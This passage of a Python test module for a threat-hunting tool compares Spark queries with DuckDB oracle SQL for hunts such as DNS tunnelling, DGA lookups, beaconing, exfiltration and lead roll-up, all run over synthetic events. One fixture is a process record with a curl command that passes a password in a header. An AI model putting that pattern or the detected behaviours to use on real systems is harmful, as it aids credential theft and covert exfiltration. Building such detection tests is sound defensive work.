        {"kind": "'process'", "host": "concat('H', u)", "cmdline": "'curl -H password= [REDACTED]'", "dst_port": "CASE WHEN e % 6 > 1 THEN 443 END", "attrs": "concat('note=n', u)"},
    ),
}
_FED = {"kind": "''", "host": "''", "user": "''", "process": "''", "cmdline": "''", "dst_ip": "''", "dst_port": "NULL", "domain": "''", "query_type": "''", "api": "''", "mfa": "NULL", "outcome": "''", "attrs": "''"}


def adapt_feeds(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Events as raw sysmon, dns, cloudtrail and generic records, read by their adapters: fields, ids and reasons."""
    rows = _read(spark, sf_dir, "events").select(F.col("event_id").alias("e"), F.col("user_id").alias("u"), F.floor(scores.micros(F.col("ts")) / 1_000_000).alias("s"))
    out = None
    for source, (line, _, _) in _FEEDS.items():
        made = ingest.adapted(rows.select(F.expr(line).alias("value"), F.lit("table").alias("file"), F.col("e").alias("place")), source)
        pairs = F.array_sort(F.transform(F.map_entries("attrs"), lambda x: F.concat(x["key"], F.lit("="), x["value"])))
        shown = [F.array_join(pairs, ",") if c == "attrs" else F.col(c) for c in _FED]
        good = F.col("reason") == ""
        part = made.select(F.lit(source).alias("format"), F.col("place").alias("event_id"), "reason", F.when(good, F.col("id")).alias("id"), F.when(good, F.unix_micros("time")).alias("us"), *[F.when(good, x).alias(c) for c, x in zip(_FED, shown, strict=True)])
        out = part if out is None else out.unionByName(part)
    return out


_ADAPT_FEEDS = " UNION ALL ".join(
    f"""SELECT '{source}' AS format, e AS event_id, reason, CASE WHEN reason = '' THEN '{source}:' || substr(sha256(line), 1, 14) END AS id, CASE WHEN reason = '' THEN s * 1000000 END AS us,
        {", ".join(f'CASE WHEN reason = {chr(39) * 2} THEN {(_FED | fields)[c]} END AS "{c}"' for c in _FED)}
        FROM (SELECT e, u, s, {line} AS line, {reason} AS reason FROM (SELECT event_id AS e, user_id AS u, epoch_us(ts) // 1000000 AS s FROM events))"""
    for source, (line, reason, fields) in _FEEDS.items()
)


def hunt_dns_tunnel(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _shown(network.dns_tunnel(_dns(spark, sf_dir)))


def hunt_dga(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _shown(network.dga(_dns(spark, sf_dir)))


_SUFFIXES = ", ".join(f"'{s}'" for s in text.TWO_LEVEL_SUFFIXES)
_LOOKUPS = f"""(SELECT *, CASE WHEN len(l) >= 3 AND array_to_string(l[-2:], '.') IN ({_SUFFIXES}) THEN array_to_string(l[-3:], '.') ELSE array_to_string(l[-2:], '.') END AS zone FROM (
    SELECT page_id::VARCHAR AS id, {T0} + page_id * 1000000 AS us, 'h' || (page_id % 3) AS host, lower(regexp_extract(url, '^[a-z]+://([^/?#:]+)', 1)) AS domain, page_id % 2 = 0 AS failed, page_id % 3 = 0 AS odd, string_split(domain, '.') AS l FROM pages) WHERE domain <> '')"""


def _bits(rows: str) -> str:
    """(t, bits): the entropy of each distinct text t."""
    return f"(SELECT t, -sum(c / n * log2(c / n)) AS bits FROM (SELECT t, ch, count(*)::DOUBLE AS c, any_value(length(t))::DOUBLE AS n FROM (SELECT t, unnest(string_split(t, '')) AS ch FROM (SELECT DISTINCT t FROM ({rows}))) GROUP BY ALL) GROUP BY t)"


_NAMES = f"SELECT DISTINCT host, zone, rtrim(substr(domain, 1, length(domain) - length(zone)), '.') AS sub, replace(rtrim(substr(domain, 1, length(domain) - length(zone)), '.'), '.', '') AS t FROM {_LOOKUPS} WHERE domain <> zone"
_TUNNEL = f"""
    SELECT 'Possible DNS tunnel from ' || host || ' via ' || zone AS title, 'Command and Control' AS tactic, [host] AS hosts, {_NONE} AS users, {_NONE} AS ips, [zone] AS domains, first_us, last_us, cited,
           55 + least(20, (subs - {LIMITS.dns_min_subdomains}) // 5) + trunc(10 * least(1.0, bits - {LIMITS.dns_min_entropy})) + CASE WHEN share >= 0.5 THEN 10 ELSE 0 END AS base
    FROM (SELECT host, zone, count(*) AS subs, avg(bits) AS bits, avg(length(t)) AS length FROM ({_NAMES}) JOIN {_bits(_NAMES)} USING (t) GROUP BY ALL)
    JOIN (SELECT host, zone, min(us) AS first_us, max(us) AS last_us, count(*) AS cited, avg(odd::INT) AS share FROM {_LOOKUPS} WHERE domain <> zone GROUP BY ALL) USING (host, zone)
    WHERE subs >= {LIMITS.dns_min_subdomains} AND bits >= {LIMITS.dns_min_entropy} AND length >= {LIMITS.dns_min_label_length}
"""
_ZONES = f"SELECT DISTINCT host, zone, split_part(zone, '.', 1) AS t FROM {_LOOKUPS} WHERE failed"
_DGA = f"""
    SELECT host || ' looked up ' || n || ' random-looking domains that do not exist' AS title, 'Command and Control' AS tactic, [host] AS hosts, {_NONE} AS users, {_NONE} AS ips, zones[:5] AS domains, first_us, last_us, cited,
           50 + least(25, (n - {LIMITS.dga_min_nxdomain}) // 3) + trunc(10 * least(1.0, greatest(0.0, bits - 3.0))) AS base
    FROM (SELECT host, count(*) AS n, avg(bits) AS bits, list_sort(list(DISTINCT zone)) AS zones FROM ({_ZONES}) JOIN {_bits(_ZONES)} USING (t) GROUP BY host)
    JOIN (SELECT host, min(us) AS first_us, max(us) AS last_us, count(*) AS cited FROM {_LOOKUPS} WHERE failed GROUP BY 1) USING (host)
    WHERE n >= {LIMITS.dga_min_nxdomain} AND bits >= {LIMITS.dns_min_entropy - 0.4}
"""

#: Lists as long as those of real feeds, so that events and findings meet them in joins; a few entries occur in the tables.
ALLOWED_ZONES, ALLOWED_ADDRESSES, KNOWN_ZONES = ("site3.example.com", "example.net"), ("203.0.113.4", "203.0.113.5"), ("example.org",)
FEEDS = replace(
    CONFIG, allow_networks=("203.0.113.4/31",), ioc_ips=CONFIG.ioc_ips + tuple(f"192.88.{n // 250}.{n % 250 + 1}" for n in range(5000)),
    allow_domains=ALLOWED_ZONES + tuple(f"allowed-{n}.invalid" for n in range(5000)), ioc_domains=KNOWN_ZONES + tuple(f"known-{n}.invalid" for n in range(5000)),
)


def hunt_beaconing_feeds(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Beaconing with an allowed network and thousands of known addresses."""
    return _shown(network.beaconing(_context(spark, sf_dir, config=FEEDS)))


def hunt_dns_feeds(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Tunnels and failed lookups with thousands of allowed and of known domains."""
    ctx = _dns(spark, sf_dir, FEEDS)
    return _shown(network.dns_tunnel(ctx).unionByName(network.dga(ctx)))


def _known_domain(sql: str) -> str:
    """The findings' SQL, where a known domain is an indicator too."""
    known = ", ".join(f"'{d}'" for d in KNOWN_ZONES)
    return sql.replace("list_has_any(ips,", f"list_has_any(list_concat(domains, list_transform(domains, lambda d: array_to_string(string_split(d, '.')[-2:], '.'))), [{known}]) OR list_has_any(ips,")


_NOT_ALLOWED = " AND ".join(f"domain <> '{z}' AND NOT ends_with(domain, '.{z}')" for z in ALLOWED_ZONES)
_LEFT_LOOKUPS = _LOOKUPS.removesuffix(" WHERE domain <> '')") + f" WHERE domain <> '' AND {_NOT_ALLOWED})"

#: Hunts over one set of events, whose findings make leads; rules of reviewers, as (hunt, entity).
LEAD_HUNTS = ("beaconing", "password_attacks", "impossible_travel", "lateral_fanout", "process_chains", "persistence", "rare_process", "cloud_abuse")
REVIEWED = (("beaconing", "host:h3"), ("*", "user:u7"), ("cloud_abuse", "user:root"))


def hunt_leads(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Findings of eight hunts, without the suppressed ones, linked while they overlap and rolled up to leads."""
    ctx = _context(spark, sf_dir)
    ctx = Context(written(ctx.window, "window"), written(ctx.history, "history"), ctx.config)
    kept, _ = reviewed({name: HUNTS[name].plan(ctx) for name in LEAD_HUNTS}, spark.createDataFrame(REVIEWED, "hunt string, entity string"))
    lists = [F.array_join(c, ",").alias(c) for c in ("tactics", "hosts", "users", "ips", "domains", "finding_ids")]
    return leads(kept, 0).select("id", "score", "severity", "title", *lists, F.unix_micros("first_seen").alias("first_us"), F.unix_micros("last_seen").alias("last_us"), "ioc_match", F.size("next_steps").alias("steps"))


def _named_sql(column: str, kind: str, most: int | None) -> str:
    values = f"CASE WHEN {column} = '' THEN {_NONE} ELSE string_split({column}, ',') END"
    return f"list_transform(CASE WHEN len({values}) <= {most or 10**9} THEN {values} ELSE {_NONE} END, lambda x: '{kind}:' || x)"


def _every_sql() -> str:
    """The findings of the hunts that read the squeezed events."""
    of = {"beaconing": (_BEACONING,), "password_attacks": (_SPRAY, _BRUTE_FORCE), "impossible_travel": (_TRAVEL,), "lateral_fanout": (_FANOUT,), "process_chains": (_rules_sql(endpoint.EXECUTION_RULES),), "persistence": (_rules_sql(endpoint.PERSISTENCE_RULES),), "rare_process": (_RARE,), "cloud_abuse": (_CLOUD,)}
    return " UNION ALL ".join(f"SELECT * FROM ({_findings_sql(rows, hunt)})" for hunt, sqls in of.items() for rows in sqls)


def _leads_sql() -> str:
    """The findings of the hunts, suppressed by REVIEWED, linked in time by entity, and rolled up by reachability."""
    kinds = (("hosts", "host"), ("users", "user"), ("ips", "ip"), ("domains", "domain"))
    named = {most: ", ".join(_named_sql(column, kind, MOST_LINKED.get(kind) if most else None) for column, kind in kinds) for most in (True, False)}
    gone = " OR ".join(f"({'true' if hunt == '*' else f'hunt = {chr(39)}{hunt}{chr(39)}'} AND list_contains(list_concat({named[False]}), '{entity}'))" for hunt, entity in REVIEWED)
    union = lambda c: f"array_to_string(list_sort(list_distinct(list_filter(flatten(list(string_split({c}, ','))), lambda x: x <> ''))), ',') AS {c}"
    order = "list_position([" + ", ".join(f"'{t}'" for t in TACTICS) + "], t)"
    return f"""
        WITH RECURSIVE f AS MATERIALIZED (SELECT * FROM ({_every_sql()}) WHERE NOT ({gone})),
        e AS (SELECT id, first_us, last_us, unnest(list_concat({named[True]})) AS entity FROM f),
        l AS (SELECT id AS b, lag(id) OVER w AS a, first_us - lag(last_us) OVER w AS gap FROM e WINDOW w AS (PARTITION BY entity ORDER BY first_us, id)),
        g AS MATERIALIZED (SELECT a, b FROM l WHERE gap <= 0 AND a <> b UNION SELECT b, a FROM l WHERE gap <= 0 AND a <> b),
        r(id, other) AS (SELECT id, id FROM f UNION SELECT r.id, g.b FROM r JOIN g ON r.other = g.a),
        c AS (SELECT id, min(other) AS component FROM r GROUP BY 1),
        t AS (SELECT component, array_to_string(list(t ORDER BY {order}), ',') AS tactics, count(*) AS tactic_count FROM (SELECT DISTINCT component, tactic AS t FROM c JOIN f USING (id)) GROUP BY 1),
        u AS (
            SELECT component, count(*) AS n, max(score) AS best, arg_max(title, (score, id)) AS top, count(DISTINCT hunt) AS steps, min(first_us) AS first_us, max(last_us) AS last_us, bool_or(ioc_match) AS ioc_match,
                   string_agg(id, '|' ORDER BY id) AS ids, string_agg(id, ',' ORDER BY score DESC, id) AS finding_ids, {", ".join(union(c) for c, _ in kinds)}
            FROM c JOIN f USING (id) GROUP BY 1
        ), s AS (SELECT *, least(100, best + least(15, 5 * (tactic_count - 1)))::INT AS score FROM u JOIN t USING (component))
        SELECT 'L-' || upper(substr(sha256(ids), 1, 8)) AS id, score, CASE WHEN score >= 85 THEN 'critical' WHEN score >= 70 THEN 'high' WHEN score >= 45 THEN 'medium' ELSE 'low' END AS severity,
               top || CASE WHEN n = 1 THEN '' ELSE ' (and ' || (n - 1) || ' related finding' || CASE WHEN n > 2 THEN 's' ELSE '' END || ')' END AS title,
               tactics, hosts, users, ips, domains, finding_ids, first_us, last_us, ioc_match, steps::INT AS steps FROM s
    """


#: The hunts that read the squeezed events.
SQL_HUNTS = tuple(h for h in HUNTS if h not in ("exfiltration", "dns_tunnel", "dga"))


def sql_hunts(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The Spark SQL of eight hunts, over events that are written once."""
    ctx = _context(spark, sf_dir)
    ctx = Context(written(ctx.window, "window"), written(ctx.history, "history"), ctx.config)
    return _shown(reduce(DataFrame.unionByName, [written(spark_sql.run(ctx, name), f"sql-{name}") for name in SQL_HUNTS]))


def sql_exfiltration(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The Spark SQL of exfiltration."""
    return _shown(spark_sql.run(_context(spark, sf_dir, 1), "exfiltration"))


def sql_dns_feeds(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The Spark SQL of the hunts over lookups, with thousands of allowed and of known domains."""
    ctx = _dns(spark, sf_dir, FEEDS)
    return _shown(spark_sql.run(ctx, "dns_tunnel").unionByName(spark_sql.run(ctx, "dga")))


def _uncited(sql: str) -> str:
    """The rows of a hunt's SQL as its Spark SQL gives them."""
    return f"SELECT * EXCLUDE (cited) FROM ({sql})"


def _stored(spark: SparkSession, ctx: Context) -> tuple[Baseline, DataFrame]:
    """Day tables of all events, added in two batches that share every day; and the events."""
    events = written(ctx.history.unionByName(ctx.window), "events")
    store = Baseline(spark, scratch_path(spark, "baseline"))
    for odd in (0, 1):
        store.add(events.where(F.col("id").cast("bigint") % 2 == odd), f"batch-{odd}")
    return store, events


def baseline_days(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The baseline's tables of days, merged from two batches."""
    store, _ = _stored(spark, _context(spark, sf_dir, 1))
    out = None
    for name, keys in KEYS.items():
        first, second = F.col(keys[0]), F.col(keys[1]) if len(keys) > 1 else F.lit("")
        part = merged(store.table(name), name).select(F.lit(name).alias("summary"), F.col("day").cast("string").alias("day"), first.alias("key"), second.alias("other"), "n", "volume")
        out = part if out is None else out.unionByName(part)
    return out


def _day_sql(name: str, rows: str, key: str, other: str, volume: str = "0") -> str:
    return f"""SELECT '{name}' AS summary, make_timestamp(us)::DATE::VARCHAR AS day, {key} AS "key", {other} AS other, count(*) AS n, sum({volume})::BIGINT AS volume FROM {rows} GROUP BY ALL"""


_DAYS = " UNION ALL ".join((
    _day_sql("kinds", "(" + " UNION ALL ".join(f"SELECT us, '{_KIND.get(name, name)}' AS kind, {'bytes_out' if name == 'flow' else '0'} AS volume FROM {_events_sql(name, 1)}" for name in _PROJECTIONS) + ")", "kind", "''", "volume"),
    _day_sql("flows", _events_sql("flow", 1), "host", "dst_ip", "bytes_out"),
    _day_sql("origins", _events_sql("sign_in", 1), '"user"', "src_ip"),
    _day_sql("reached", _events_sql("sign_in", 1), '"user"', "host"),
    _day_sql("programs", _events_sql("process", 1), _IMAGE, "''"),
    _day_sql("callers", _events_sql("cloud", 1), '"user"', "src_ip"),
))


def hunt_exfiltration_stored(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Exfiltration against stored days, without the events of history."""
    ctx = _context(spark, sf_dir, 1)
    store, events = _stored(spark, ctx)
    start = datetime(1970, 1, 1, tzinfo=timezone.utc) + timedelta(microseconds=T0 + HALF)
    return _shown(network.exfiltration(Context(ctx.window, events.where("false"), ctx.config, store.before(start, None, events))))


#: Addresses of both versions as SQL that Spark and DuckDB both read (`e` event, `u` user); digits of the wide ones are decimal.
_ADDRESSES = ("concat(u % 250, '.', e % 256, '.', e % 7, '.', u % 9)", "concat('2001:db8:', u % 10, ':', e % 100, '::', e % 7)")
NETWORKS = HuntConfig(
    LIMITS, allow_networks=("200.0.0.0/7", "2001:db8:5::/48"),
    geo=(("0.0.0.0/1", "AA"), ("64.0.0.0/10", "BB"), ("100.16.0.0/13", "CC"), ("100.16.4.0/22", "DD"), ("100.16.0.0/13", "no"), ("2001:db8::/32", "EE"), ("2001:db8:3::/48", "FF"), ("2001:db8:4:40::/60", "GG")),
)


def network_lookup(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Whether distinct addresses of both versions are internal or allowed, and the country of their longest network."""
    rows = _read(spark, sf_dir, "events").select(F.col("event_id").alias("e"), F.col("user_id").alias("u"))
    return address_facts(rows.select(F.explode(F.array(*map(F.expr, _ADDRESSES))).alias("ip")).distinct(), NETWORKS)


def _lookup_sql() -> str:
    """By ranges of numbers: of wide addresses the upper half, since no network of the list is longer but ::1."""
    rows = []
    for what, nets in (("internal", [(n, "") for n in INTERNAL]), ("allowed", [(n, "") for n in NETWORKS.allow_networks]), ("country", NETWORKS.geo)):
        for place, (name, value) in enumerate(nets):
            net = ipaddress.ip_network(name)
            if net.prefixlen <= 64:
                down = 64 if net.version == 6 else 0
                rows.append(f"('{what}', {net.version}, {int(net[0]) >> down}::UBIGINT, {int(net[-1]) >> down}::UBIGINT, {net.prefixlen * 1000 - place}, '{value}')")
    top = 0x20010DB8 << 32
    return f"""
        WITH n(what, version, low, high, rank, value) AS (VALUES {", ".join(rows)}), a AS (
            SELECT {_ADDRESSES[0]} AS ip, 4 AS version, ((u % 250) * 16777216 + (e % 256) * 65536 + (e % 7) * 256 + u % 9)::UBIGINT AS number FROM (SELECT event_id AS e, user_id AS u FROM events)
            UNION SELECT {_ADDRESSES[1]}, 6, ({top} + (u % 10) * 65536 + (e % 100) // 10 * 16 + e % 10)::UBIGINT FROM (SELECT event_id AS e, user_id AS u FROM events)
        )
        SELECT ip, coalesce(bool_or(what = 'internal'), false) AS internal, coalesce(bool_or(what = 'allowed'), false) AS allowed, coalesce(arg_max(value, rank) FILTER (what = 'country'), '') AS country
        FROM a LEFT JOIN n ON a.version = n.version AND number BETWEEN low AND high GROUP BY ip
    """


QUERIES: dict[str, Callable[[SparkSession, str], DataFrame]] = {
    f.__name__: f
    for f in (
        hunt_beaconing, hunt_dns_tunnel, hunt_dga, hunt_exfiltration, hunt_spray, hunt_brute_force, hunt_impossible_travel, hunt_lateral_fanout,
        hunt_process_rules, hunt_rare_process, hunt_cloud_abuse, coverage_blind, redact_secrets, adapt_records, adapt_feeds, hunt_beaconing_feeds, hunt_dns_feeds, hunt_leads,
        baseline_days, hunt_exfiltration_stored, network_lookup, sql_hunts, sql_exfiltration, sql_dns_feeds,
    )
}
ORACLE_SQL: dict[str, str] = {
    "hunt_beaconing": _findings_sql(_BEACONING, "beaconing"),
    "hunt_dns_tunnel": _findings_sql(_TUNNEL, "dns_tunnel"),
    "hunt_dga": _findings_sql(_DGA, "dga"),
    "hunt_exfiltration": _EXFILTRATION_WITH + ", " + _findings_sql(_EXFILTRATION, "exfiltration").strip().removeprefix("WITH "),
    "hunt_spray": _findings_sql(_SPRAY, "password_attacks"),
    "hunt_brute_force": _findings_sql(_BRUTE_FORCE, "password_attacks"),
    "hunt_impossible_travel": _findings_sql(_TRAVEL, "impossible_travel"),
    "hunt_lateral_fanout": _findings_sql(_FANOUT, "lateral_fanout"),
    "hunt_process_rules": " UNION ALL ".join(f"SELECT * FROM ({_findings_sql(_rules_sql(rules), hunt)})" for rules, hunt in ((endpoint.EXECUTION_RULES, "process_chains"), (endpoint.PERSISTENCE_RULES, "persistence"))),
    "hunt_rare_process": _findings_sql(_RARE, "rare_process"),
    "hunt_cloud_abuse": _findings_sql(_CLOUD, "cloud_abuse"),
    "coverage_blind": f"""
        WITH m AS (SELECT * FROM (VALUES {_HUNTS_SQL}) AS t(kind, technique)), p AS (SELECT DISTINCT CASE event_type WHEN 'view' THEN 'flow' WHEN 'click' THEN 'process' WHEN 'purchase' THEN 'cloud' END AS kind FROM events)
        SELECT technique FROM m EXCEPT SELECT technique FROM m WHERE kind IN (SELECT kind FROM p WHERE kind IS NOT NULL)
    """,
    "redact_secrets": f"""
        SELECT origin, id, md5(clean) AS clean_md5 FROM (SELECT *, {_redact_sql("text")} AS clean FROM (
            SELECT 'documents' AS origin, doc_id AS id, text FROM documents UNION ALL SELECT 'conversations', conv_id * 1000 + turn, text FROM conversations)) WHERE clean <> text
    """,
    "adapt_records": _ADAPT,
    "adapt_feeds": _ADAPT_FEEDS,
    "hunt_beaconing_feeds": _findings_sql(_BEACONING.replace("WHERE late)", f"WHERE late AND dst_ip NOT IN {ALLOWED_ADDRESSES})"), "beaconing"),
    "hunt_dns_feeds": " UNION ALL ".join(f"SELECT * FROM ({_known_domain(_findings_sql(sql.replace(_LOOKUPS, _LEFT_LOOKUPS), hunt))})" for sql, hunt in ((_TUNNEL, "dns_tunnel"), (_DGA, "dga"))),
    "hunt_leads": _leads_sql(),
    "baseline_days": _DAYS,
    "hunt_exfiltration_stored": _EXFILTRATION_WITH + ", " + _findings_sql(_EXFILTRATION, "exfiltration").strip().removeprefix("WITH "),
    "network_lookup": _lookup_sql(),
    "sql_hunts": _uncited(_every_sql()),
}
ORACLE_SQL["sql_exfiltration"] = _uncited(ORACLE_SQL["hunt_exfiltration"])
ORACLE_SQL["sql_dns_feeds"] = _uncited(ORACLE_SQL["hunt_dns_feeds"])
